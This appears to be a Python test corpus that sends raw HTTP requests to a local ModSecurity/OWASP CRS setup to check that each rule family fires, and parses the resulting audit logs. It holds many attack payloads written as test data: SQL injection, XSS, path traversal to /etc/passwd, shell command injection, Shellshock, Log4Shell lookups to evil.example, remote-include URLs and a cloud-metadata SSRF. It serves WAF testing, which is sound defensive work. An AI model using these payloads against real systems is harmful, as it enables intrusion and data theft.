"""The request corpus of the differential (fidelity) test: benign traffic and at least
one request per OWASP CRS rule family of CRS 3.3.4 and 4.28, inbound (911-944) and
outbound (950-956, through DocumentRoot files whose bodies carry error signatures).

Each case is sent as raw bytes on its own connection (`send()`), so protocol oddities
(a GET with a body, a numeric Host, conflicting Connection values) reach ModSecurity
exactly as written. Every request carries `X-Corpus-Case: NAME`, which ModSecurity
copies into the audit log (part B), so a difference can be reported by case name.

`FAMILIES` says which families the corpus must trigger (checked against ModSecurity's
own audit log, so a CRS update that silently stops matching a case is noticed).
"""

from __future__ import annotations

import http.client
import re
import socket
import urllib.parse
from dataclasses import dataclass

q = urllib.parse.quote

UA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
BROWSER = (("User-Agent", UA),
           ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
           ("Accept-Language", "en-US,en;q=0.5"))
CASE_HEADER = "X-Corpus-Case"
LONG_NAME = "<script>alert(1)</script>" + "a" * (1100 - len("<script>alert(1)</script>"))


@dataclass(frozen=True)
class Case:
    name: str
    path: str = "/"
    method: str = "GET"
    headers: tuple = ()            # extra (name, value) pairs, after the browser headers
    body: bytes | None = None
    browser: bool = True           # send BROWSER headers (a missing UA is itself a finding)
    host: str | None = None        # Host header; None: the vhost's name; "": no Host header
    version: str = "HTTP/1.1"


def form() -> tuple:
    return (("Content-Type", "application/x-www-form-urlencoded"),)


def multipart(parts: list[tuple[str, str, str]], boundary: str = "CorpusBoundary42") \
        -> tuple[tuple, bytes]:
    """(headers, body) for multipart/form-data; parts are (name, extra part headers, value)."""
    out = []
    for name, extra, value in parts:
        out.append(f"--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n"
                   f"{extra}\r\n{value}\r\n")
    out.append(f"--{boundary}--\r\n")
    return ((("Content-Type", f"multipart/form-data; boundary={boundary}"),),
            "".join(out).encode())


_MP_UTF7 = multipart([("comment", "Content-Type: text/plain; charset=utf-7\r\n", "+ADw-script+AD4-")])
_MP_CHARSET = multipart([("_charset_", "", "utf-7"), ("a", "", "b")])
_MP_CTE = multipart([("file", "Content-Transfer-Encoding: base64\r\n", "aGVsbG8=")])
_MP_BENIGN = multipart([("name", "", "Jane Doe"), ("city", "", "Lisbon")])
_MP_XSS = multipart([("bio", "", "<script>alert(document.domain)</script>")])

# Files served from each vhost's DocumentRoot; their bodies trip the outbound rules.
LEAK_FILES: dict[str, str] = {
    "leak/sql.html": "<html><body>Error: You have an error in your SQL syntax; check the "
                     "manual that corresponds to your MySQL server version for the right "
                     "syntax to use near ''1''' at line 1</body></html>\n",
    "leak/pgsql.html": "<html><body>Warning: pg_query(): Query failed: ERROR:  syntax error "
                       "at or near \"'\" LINE 1: SELECT * FROM users</body></html>\n",
    "leak/java.html": "<html><body><pre>java.lang.NullPointerException\n"
                      "\tat com.example.shop.CartServlet.doGet(CartServlet.java:42)\n"
                      "\tat javax.servlet.http.HttpServlet.service(HttpServlet.java:635)\n"
                      "</pre></body></html>\n",
    "leak/php.html": "<html><body><br />\n<b>Fatal error</b>:  Uncaught Error: Call to "
                     "undefined function get_magic_quotes_gpc() in <b>/var/www/html/db.php"
                     "</b> on line <b>3</b><br />\n</body></html>\n",
    "leak/phpsrc.html": "<html><body><?php\n$password = 'hunter2';\necho $password;\n?>"
                        "</body></html>\n",
    "leak/dirlist.html": "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 3.2 Final//EN\">\n<html>\n"
                         " <head>\n  <title>Index of /backup</title>\n </head>\n <body>\n"
                         "<h1>Index of /backup</h1>\n<ul><li><a href=\"db.sql\">db.sql</a>"
                         "</li></ul>\n</body></html>\n",
    "leak/iis.html": "<html><body>Microsoft OLE DB Provider for ODBC Drivers error "
                     "'80040e14' [Microsoft][ODBC SQL Server Driver][SQL Server]Unclosed "
                     "quotation mark. C:\\Inetpub\\wwwroot\\default.asp, line 12"
                     "</body></html>\n",
    "leak/iis-error.html": "<html><head><title>Runtime Error</title></head><body>"
                           "<h1>Server Error in '/' Application.</h1><h2><i>Runtime Error"
                           "</i></h2></body></html>\n",
    "leak/shell.html": "<html><head><title>r57 Shell Version 1.50</title></head>"
                       "<body></body></html>\n",
    "leak/ruby.html": "<html><body><pre>ActiveRecord::RecordNotFound (Couldn't find User "
                      "with 'id'=1):\nNoMethodError: undefined method `name' for nil:NilClass"
                      "\n</pre></body></html>\n",
    "leak/err500.asis": "Status: 500 Internal Server Error\nContent-Type: text/html\n\n"
                        "<html><body>Internal error</body></html>\n",
    "form.html": "<html><body><form method=post><input name=q></form></body></html>\n",
    "data.json": "{\"items\": [1, 2, 3]}\n",
}

CASES: list[Case] = [
    # ---------------------------------------------------------------- benign
    Case("benign-root"),
    Case("benign-index", "/index.html"),
    Case("benign-query", "/?page=2&sort=name&order=asc"),
    Case("benign-missing", "/no-such-page.html"),
    Case("benign-form-page", "/form.html"),
    Case("benign-json-file", "/data.json"),
    Case("benign-post-form", "/form.html", "POST", form(),
         b"name=Jane+Doe&email=jane%40example.com&city=Lisbon"),
    Case("benign-post-json", "/data.json", "POST", (("Content-Type", "application/json"),),
         b'{"name": "Jane Doe", "age": 31, "tags": ["a", "b"]}'),
    Case("benign-multipart", "/form.html", "POST", *_MP_BENIGN),
    Case("benign-head", "/index.html", "HEAD"),
    # ---------------------------------------------------------------- 911 method
    Case("911-method", "/", "FOOBAR"),
    Case("911-trace", "/", "TRACE"),
    # ---------------------------------------------------------------- 913 scanners
    Case("913-nikto-ua", headers=(("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"),)),
    Case("913-arachni-ua", headers=(("User-Agent", "Arachni/v1.5.1"),)),
    # ---------------------------------------------------------------- 920 protocol
    Case("920-get-with-body", "/", "GET", form(), b"a=1"),
    Case("920-numeric-host", host="127.0.0.1"),
    Case("920-nul-in-arg", "/?a=x%00y"),
    Case("920-url-encoding-abuse", "/?a=%zz%zz"),
    Case("920-double-encoding", "/?a=%2541%252e%252e"),
    Case("920-unicode-abuse", "/?a=%uff1cscript%uff1e"),
    Case("920-range-invalid", headers=(("Range", "bytes=10-5"),)),
    Case("920-range-many", headers=(("Range", "bytes=" + ",".join(f"{i}-{i}" for i in range(10))),)),
    Case("920-connection-conflict", headers=(("Connection", "keep-alive, close"),)),
    Case("920-content-no-type", "/form.html", "POST", (), b"a=1"),
    Case("920-content-type-evil", "/form.html", "POST",
         (("Content-Type", "application/x-evil-type"),), b"a=1"),
    Case("920-charset-utf7", "/form.html", "POST",
         (("Content-Type", "application/x-www-form-urlencoded; charset=utf-7"),), b"a=1"),
    Case("920-restricted-ext", "/config/web.config"),
    Case("920-backup-file", "/index.php~"),
    Case("920-proxy-header", headers=(("Proxy", "http://evil.example/"),)),
    Case("920-expect-header", "/form.html", "POST",
         (("Content-Type", "application/x-www-form-urlencoded"), ("Expect", "100-continue")),
         b"a=1"),
    Case("920-no-ua-no-accept", browser=False),
    Case("920-empty-ua", headers=(("User-Agent", ""),)),
    Case("920-http10-no-host", host="", version="HTTP/1.0"),
    Case("920-accept-charset", headers=(("Accept-Charset", "utf-7"),)),
    # ---------------------------------------------------------------- 921 protocol attack
    Case("921-smuggling-arg", "/?q=" + q("GET /admin HTTP/1.1")),
    Case("921-response-splitting", "/?q=" + q("x\r\nSet-Cookie: admin=1")),
    Case("921-header-injection", "/?q=" + q("x\r\nLocation: http://evil.example")),
    Case("921-newline-arg-name", "/?a%0d%0ab=1"),
    Case("921-param-pollution", "/?id=1&id=2&id=3"),
    Case("921-ldap-injection", "/?user=" + q("*)(uid=*))(|(uid=*")),
    # ---------------------------------------------------------------- 922 multipart
    Case("922-part-charset", "/form.html", "POST", *_MP_UTF7),
    Case("922-charset-field", "/form.html", "POST", *_MP_CHARSET),
    Case("922-transfer-encoding", "/form.html", "POST", *_MP_CTE),
    # ---------------------------------------------------------------- 930 LFI
    Case("930-traversal", "/?file=" + q("../../../../etc/passwd")),
    Case("930-encoded-traversal", "/?file=..%252f..%252f..%252fetc%252fshadow"),
    Case("930-restricted-file", "/.htaccess"),
    Case("930-os-file", "/?f=" + q("/proc/self/environ")),
    # ---------------------------------------------------------------- 931 RFI
    Case("931-ip-url", "/?url=" + q("http://192.0.2.10/shell.txt")),
    Case("931-include-fn", "/?" + q("include(path=http://evil.example/x.txt")),  # name=URL
    Case("931-trailing-qmark", "/?page=" + q("http://evil.example/shell.txt?")),
    Case("931-off-domain", "/?page=" + q("https://evil.example/payload")),
    # ---------------------------------------------------------------- 932 RCE
    Case("932-unix-cmd", "/?cmd=" + q(";cat /etc/passwd")),
    Case("932-subshell", "/?cmd=" + q("$(whoami)")),
    Case("932-windows-cmd", "/?cmd=" + q("& net user admin /add")),
    Case("932-powershell", "/?cmd=" + q("powershell -EncodedCommand ZQBjAGgAbwA=")),
    Case("932-shellshock", headers=(("User-Agent", "() { :; }; /bin/bash -c 'id'"),)),
    Case("932-backticks", "/?cmd=" + q("`uname -a`")),
    # ---------------------------------------------------------------- 933 PHP
    Case("933-php-open-tag", "/?x=" + q("<?php phpinfo(); ?>")),
    Case("933-php-wrapper", "/?x=" + q("php://filter/convert.base64-encode/resource=index")),
    Case("933-php-ini", "/?x=" + q("allow_url_include=On")),
    Case("933-php-function", "/?x=" + q("system('id');")),
    Case("933-php-variable", "/?x=" + q("$_SERVER['HTTP_HOST']")),
    Case("933-php-object", "/?x=" + q('O:8:"stdClass":1:{s:1:"a";i:1;}')),
    # ---------------------------------------------------------------- 934 generic/nodejs
    Case("934-node-serialize", "/?x=" + q("_$$ND_FUNC$$_function(){require('child_process')}")),
    Case("934-node-require", "/?x=" + q("require('child_process').exec('id')")),
    Case("934-prototype-pollution", "/?__proto__%5Badmin%5D=1"),
    Case("934-ssrf-metadata", "/?url=" + q("http://169.254.169.254/latest/meta-data/")),
    Case("934-data-scheme", "/?x=" + q("data:text/html;base64,PHNjcmlwdD4=")),
    # ---------------------------------------------------------------- 941 XSS
    Case("941-script", "/?q=" + q("<script>alert(1)</script>")),
    Case("941-img-onerror", "/?q=" + q('<img src=x onerror="alert(1)">')),
    Case("941-javascript-uri", "/?q=" + q("javascript:alert(document.cookie)")),
    Case("941-header-referer", headers=(("Referer", "http://x/<script>alert(1)</script>"),)),
    Case("941-post-form", "/form.html", "POST", form(), b"comment=%3Csvg%2Fonload%3Dalert(1)%3E"),
    # ---------------------------------------------------------------- 942 SQLi
    Case("942-tautology", "/?id=" + q("1' OR 1=1--")),
    Case("942-union", "/?id=" + q("1 UNION SELECT username, password FROM users")),
    Case("942-sleep", "/?id=" + q("1 AND sleep(5)")),
    Case("942-comment", "/?user=" + q("admin'/*")),
    Case("942-cookie", headers=(("Cookie", "session=" + q("' or '1'='1")),)),
    Case("942-json-body", "/data.json", "POST", (("Content-Type", "application/json"),),
         b'{"user": "admin\' OR \'1\'=\'1", "pass": "x"}'),
    Case("942-post-form", "/form.html", "POST", form(), b"id=1%27%3B+DROP+TABLE+users%3B--"),
    Case("942-two-args", "/?a=" + q("1' OR 1=1--") + "&b=" + q("2' OR 2=2--")),
    # ---------------------------------------------------------------- 943 session fixation
    Case("943-cookie-script", "/?x=" + q('<script>document.cookie="PHPSESSID=abc; '
                                         'domain=.example.com"</script>')),
    Case("943-sessid-off-domain", "/?PHPSESSID=abcdef0123",
         headers=(("Referer", "http://evil.example/"),)),
    Case("943-sessid-no-referer", "/?jsessionid=abcdef0123"),
    # ---------------------------------------------------------------- 944 Java
    Case("944-runtime-exec", "/?x=" + q('java.lang.Runtime.getRuntime().exec("id")')),
    Case("944-log4shell", "/?x=" + q("${jndi:ldap://evil.example/a}")),
    Case("944-log4shell-header", headers=(("X-Api-Version", "${jndi:ldap://evil.example/a}"),)),
    Case("944-deserialization", "/?x=" + q("rO0ABQ==")),   # base64 of the magic AC ED 00 05
    Case("944-class-loader", "/?class.module.classLoader.resources.context=x"),
    # ---------------------------------------------------------------- 950-956 outbound
    Case("950-dirlist", "/leak/dirlist.html"),
    Case("950-status-500", "/leak/err500.asis"),
    Case("951-mysql-error", "/leak/sql.html"),
    Case("951-pgsql-error", "/leak/pgsql.html"),
    Case("952-java-trace", "/leak/java.html"),
    Case("953-php-error", "/leak/php.html"),
    Case("953-php-source", "/leak/phpsrc.html"),
    Case("954-iis-leak", "/leak/iis.html"),
    Case("954-iis-error", "/leak/iis-error.html"),
    Case("955-web-shell", "/leak/shell.html"),
    Case("956-ruby-error", "/leak/ruby.html"),
    # ------------------------------------------------- message format and engine
    # A 1,100-byte argument name: ModSecurity cuts the message before [id].
    Case("fmt-truncated-arg-name", "/?" + q(LONG_NAME) + "=1"),
    Case("fmt-long-data", "/?q=" + q("<script>" + "a" * 600 + "</script>")),
    Case("fmt-quotes-in-data", "/?q=" + q('1" OR "1"="1')),
    Case("fmt-non-utf8", "/?q=%ff%fe" + q("<script>alert(1)</script>")),
    Case("fmt-control-chars", "/?q=" + q("\x01\x7f<script>\talert(1)</script>")),
    Case("fmt-forged-id", "/?" + q('a [id "999999"] [msg "forged"]') + "=" + q("1' OR 1=1--")),
    Case("body-xml", "/form.html", "POST", (("Content-Type", "text/xml"),),
         b"<?xml version='1.0'?><order><id>1' OR 1=1--</id></order>"),
    Case("body-multipart-xss", "/form.html", "POST", *_MP_XSS),
    Case("body-json-nested-xss", "/data.json", "POST", (("Content-Type", "application/json"),),
         b'{"a": {"b": [1, "<script>alert(1)</script>"]}}'),
    Case("body-invalid-json", "/data.json", "POST", (("Content-Type", "application/json"),),
         b'{"a": '),
    Case("body-invalid-xml", "/form.html", "POST", (("Content-Type", "text/xml"),),
         b"<order><id>1</order>"),
    Case("body-broken-multipart", "/form.html", "POST",
         (("Content-Type", "multipart/form-data; boundary=XyZ"),),
         b"--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--XyZ"),
    Case("body-over-limit", "/form.html", "POST", form(), b"a=" + b"x" * 140_000),
    Case("cookie-xss", headers=(("Cookie", "pref=" + q("<script>alert(1)</script>")),)),
    Case("path-traversal-encoded", "/index.html/..%2f..%2fetc%2fpasswd"),
    Case("path-attack-in-uri", "/" + q("<script>alert(1)</script>") + ".html"),
    # CRS checks argument counts and lengths only when crs-setup.conf sets tx.max_num_args
    # / tx.arg_length, which the default does not: no 920 finding (hence no family name).
    Case("limits-many-args", "/?" + "&".join(f"p{i}=v" for i in range(300))),
    Case("limits-long-arg", "/?a=" + "x" * 420),
    # ------------------------------------------------------------ mixed/combined
    Case("mixed-sqli-xss-lfi", "/?a=" + q("1' OR 1=1--") + "&b=" + q("<script>x</script>")
         + "&c=" + q("../../etc/passwd")),
    Case("mixed-attack-to-leak", "/leak/sql.html?id=" + q("1' UNION SELECT 1--")),
]

# Families the corpus must trigger (by the first three digits of a rule id), per CRS
# major version, at paranoia level 1; higher levels only add rules.
FAMILIES_COMMON = ["911", "913", "920", "921", "922", "930", "931", "932", "933", "934",
                   "941", "942", "943", "944", "950", "951", "952", "953", "954", "949",
                   "959", "980"]
FAMILIES = {"3": FAMILIES_COMMON, "4": FAMILIES_COMMON + ["955", "956"]}


def raw_request(case: Case, host: str) -> bytes:
    hdrs: list[tuple[str, str]] = []
    h = case.host if case.host is not None else host
    if h:
        hdrs.append(("Host", h))
    if case.browser:
        overridden = {k.lower() for k, _ in case.headers}
        hdrs += [(k, v) for k, v in BROWSER if k.lower() not in overridden]
    hdrs += list(case.headers)
    hdrs.append((CASE_HEADER, case.name))
    if case.body is not None:
        hdrs.append(("Content-Length", str(len(case.body))))
    if not any(k.lower() == "connection" for k, _ in hdrs):
        hdrs.append(("Connection", "close"))
    head = f"{case.method} {case.path} {case.version}\r\n" + \
        "".join(f"{k}: {v}\r\n" for k, v in hdrs) + "\r\n"
    return head.encode("latin-1") + (case.body or b"")


def send(port: int, case: Case, host: str, timeout: float = 20.0) -> int:
    """Sends one case on its own connection; returns the status Apache answered."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        s.sendall(raw_request(case, host))
        resp = http.client.HTTPResponse(s, method=case.method)
        resp.begin()
        resp.read()
        return resp.status


# ------------------------------------------------------- ModSecurity's audit log

_META = re.compile(r'\[(\w+) "((?:[^"\\]|\\.)*)"\]')


def modsec_unescape(s: str) -> str:
    """ModSecurity's log escaping (\\" \\\\ \\xHH ...) undone, as the module does."""
    out = bytearray()
    i = 0
    raw = s.encode("utf-8", "surrogateescape")
    simple = {ord('"'): b'"', ord("\\"): b"\\", ord("n"): b"\n", ord("r"): b"\r",
              ord("t"): b"\t", ord("v"): b"\v", ord("b"): b"\b"}
    while i < len(raw):
        c = raw[i]
        if c == 0x5C and i + 1 < len(raw):
            n = raw[i + 1]
            if n in simple:
                out += simple[n]
                i += 2
                continue
            if n == ord("x") and i + 3 < len(raw):
                try:
                    out.append(int(raw[i + 2:i + 4].decode(), 16))
                    i += 4
                    continue
                except ValueError:
                    pass
        out.append(c)
        i += 1
    return out.decode("utf-8", "replace")


@dataclass(frozen=True)
class AuditMessage:
    id: str
    msg: str
    severity: str
    data: str
    intercepted: bool
    text: str

    @property
    def is_engine_message(self) -> bool:
        """An engine message rather than a rule's alert (no [id], not cut short)."""
        return not self.id and not self.text.startswith(("Warning.", "Access "))

    @staticmethod
    def parse(text: str) -> "AuditMessage":
        # Metadata only from the last " [file " on: the head can carry attacker text.
        start = text.rfind(' [file "')
        meta = dict(_META.findall(text[start:] if start >= 0 else text))
        return AuditMessage(meta.get("id", ""), modsec_unescape(meta.get("msg", "")),
                            meta.get("severity", ""), modsec_unescape(meta.get("data", "")),
                            text.startswith("Access denied"), text)


def audit_messages(apache) -> dict[str, list[AuditMessage]]:
    """unique_id -> that transaction's audit-log messages (ApacheSandbox, audit_json)."""
    out: dict[str, list[AuditMessage]] = {}
    for e in apache.audit_entries():
        uid = e.get("transaction", {}).get("transaction_id", "")
        out[uid] = [AuditMessage.parse(m) for m in e.get("audit_data", {}).get("messages", [])]
    return out


def access_log(apache) -> list[dict]:
    """The sandbox's access log ("%v %{local}p %{UNIQUE_ID}e %a \"%r\" %>s %b") parsed."""
    rows = []
    for line in apache.access_log_lines():
        vhost, port, uid, client, rest = line.split(" ", 4)
        request_line, _, tail = rest[1:].rpartition('" ')
        rows.append({"vhost": vhost, "port": int(port), "uid": uid, "client": client,
                     "request": request_line, "status": int(tail.split(" ")[0])})
    return rows
